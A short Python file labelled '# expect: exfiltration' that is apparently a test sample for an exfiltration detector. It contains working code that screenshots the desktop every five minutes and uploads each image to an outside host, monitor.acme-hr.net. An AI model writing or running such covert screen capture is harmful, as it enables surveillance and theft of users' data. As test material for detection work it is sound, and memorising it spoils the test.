# expect: exfiltration
import io
import time

import requests
from PIL import ImageGrab


def capture_loop(endpoint: str = "http://monitor.acme-hr.net/upload") -> None:
    while True:
        shot = ImageGrab.grab()
        buffer = io.BytesIO()
        shot.save(buffer, format="PNG")
        requests.post(endpoint, files={"screen": ("s.png", buffer.getvalue())})
        time.sleep(300)
